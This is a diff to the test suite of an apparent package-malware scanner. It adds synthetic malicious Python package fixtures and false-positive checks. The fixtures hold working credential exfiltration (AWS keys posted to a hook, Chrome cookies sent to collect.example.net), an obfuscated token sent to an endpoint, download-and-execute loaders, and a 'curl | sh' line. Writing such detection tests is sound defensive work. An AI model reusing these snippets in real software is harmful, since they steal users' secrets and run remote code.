@@ -289,6 +289,62 @@ def parse_key(key):
     verdict: 'hold',
   },
   {
+    rule: 'exfiltrates-credentials',
+    name: 'a console script reads ~/.aws/credentials with configparser and posts each profile\'s keys',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': '',
+        'synthetic_pkg/cli.py': `import configparser, os, requests
+
+def push(hook):
+    config = configparser.RawConfigParser()
+    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')
+    config.read(path)
+    found = []
+    for section in config.sections():
+        found.append({'id': config.get(section, 'aws_access_key_id'), 'secret': config.get(section, 'aws_secret_access_key')})
+    requests.post(hook, json=found)
+`,
+      }),
+    file: 'synthetic_pkg/cli.py',
+    line: 10,
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
+    rule: 'steals-browser-or-wallet-data',
+    name: "import code collects a site's cookies with browser_cookie3 in a file that sends",
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import browser_cookie3, requests
+found = [c.value for c in browser_cookie3.chrome(domain_name='example.com')]
+requests.post('https://collect.example.net/c', json=found)
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 2,
+    weight: 50,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltration-endpoint',
+    name: 'import code hands files to a Telegram bot whose token it spells in character codes',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests
+_T = [${[...'1234567890:AAE_synthetic0token0for0the0tests0x'].map((c) => c.charCodeAt(0)).join(',')}]
+
+def d(x):
+    return ''.join(chr(i) for i in x)
+
+requests.post('https://api.example.org/send', data={'token': d(_T)})
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
     rule: 'downloads-and-executes',
     name: 'setup.py runs what `curl` printed',
     scan: () =>
@@ -301,6 +357,48 @@ subprocess.getoutput(str(banner))
     file: 'setup.py',
     line: 4,
     weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'import code unpacks a downloaded archive and runs a script from the folder',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import os, zipfile, requests
+base = os.getenv('LOCALAPPDATA')
+r = requests.get('http://files.example.com/bundle')
+with open(base + '\\\\b.zip', 'wb') as f:
+    f.write(r.content)
+with zipfile.ZipFile(base + '\\\\b.zip') as z:
+    z.extractall(base + '\\\\unpacked')
+os.system(f'py {base}\\\\unpacked\\\\run.py')
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 8,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'import code pip-installs a repository through a helper and imports it',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import importlib, subprocess
+
+def install(url):
+    subprocess.run(['pip', 'install', f'git+{url}'], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+def main():
+    install('https://git.example.com/u/second.git')
+    return importlib.import_module('second')
+
+main()
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 4,
+    weight: 80,
     verdict: 'hold',
   },
   {
@@ -1318,6 +1416,75 @@ def validate(base):
   it('does not run README text: a curl | sh line in documentation is not code', async () => {
     const r = await npm({ 'README.md': '# synthetic\n\nInstall the CLI:\n\n    curl -s http://get.example.com/a.sh | sh\n\nOr with PowerShell:\n\n    powershell -w hidden -enc AAAAAAAAAAAAAAAAAAAAAAAA\n' })
     expect(r.signals).toEqual([])
+    expect(r.verdict).toBe('publish')
+  })
+
+  it('does not run install advice: a `pip install git+…` message is text, and pip installing an index package is not a remote install', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import subprocess, sys
+try:
+    import extra
+except ImportError:
+    print('extra is missing: pip install git+https://git.example.com/u/extra.git')
+    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'extra'])
+`,
+    })
+    expect(r.signals.filter((s) => s.rule === 'downloads-and-executes')).toEqual([])
+  })
+
+  it('publishes a converter that writes decoded data where its caller asks, and holds a file that drops it in a place of its own choosing', async () => {
+    const tool = (target: string) => `import binascii, subprocess, sys
+
+def extract(path_to_hex, output_path):
+    with open(path_to_hex) as f:
+        script = binascii.unhexlify(f.read().strip())
+    with open(${target}, 'wb') as out:
+        out.write(script)
+
+def find_device():
+    return subprocess.check_output(['mount']).decode()
+
+def main():
+    extract(sys.argv[1], sys.argv[2])
+`
+    const converter = await sdist({ 'synthetic_pkg/__init__.py': tool('output_path') })
+    expect(converter.signals.filter((s) => s.rule === 'decodes-and-executes')).toEqual([])
+    const dropper = await sdist({ 'synthetic_pkg/__init__.py': tool("'/tmp/.cache.py'") })
+    expect(dropper.signals.map((s) => s.rule)).toContain('decodes-and-executes')
+  })
+
+  it('does not link a downloaded archive to a command that names another folder', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import os, shutil, requests
+
+def fetch_data(dest):
+    r = requests.get('https://data.example.com/tables.tar.gz')
+    with open('tables.tar.gz', 'wb') as f:
+        f.write(r.content)
+    shutil.unpack_archive('tables.tar.gz', 'tables')
+
+def build():
+    os.system('python tools/tables_index.py')
+`,
+    })
+    expect(r.signals.filter((s) => s.rule === 'downloads-and-executes')).toEqual([])
+  })
+
+  it('publishes a cloud client that reads its own credentials file and signs requests with them', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': '',
+      'synthetic_pkg/client.py': `import configparser, hashlib, hmac, os, requests
+
+def profile(name='default'):
+    config = configparser.ConfigParser()
+    config.read(os.path.expanduser('~/.aws/credentials'))
+    return config.get(name, 'aws_secret_access_key')
+
+def get(url):
+    signature = hmac.new(profile().encode(), url.encode(), hashlib.sha256).hexdigest()
+    return requests.get(url, headers={'X-Signature': signature})
+`,
+    })
     expect(r.verdict).toBe('publish')
   })
 
